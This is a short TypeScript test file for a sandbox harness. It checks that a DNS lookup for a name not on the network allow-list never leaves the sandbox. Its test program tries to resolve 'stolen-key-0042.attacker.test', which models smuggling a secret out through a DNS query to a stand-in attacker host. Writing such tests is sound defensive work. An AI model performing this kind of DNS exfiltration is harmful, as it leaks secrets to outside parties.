// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { nameRefusals, overhearing, resolvers } from "../harness/name-server.ts";

export const hostile: Attack = {
  claim: "A question for a name that is not granted never leaves the cell, whatever it spells",
  proof: "host",
  grants: () => ["--allow-net=api.good.test"],
  resolvers,
  startRefusals: ["ERR_NOT_ENFORCEABLE"],
  refusals: nameRefusals,
  prepare: (site) =>
    overhearing(site, (questions) =>
      questions.some(({ name }) => name.startsWith("stolen")) ? "a name came out" : undefined,
    ),
  program: async (cell) => {
    const resolver = cell.resolver();
    await resolver.resolve4("stolen-key-0042.attacker.test");
  },
};
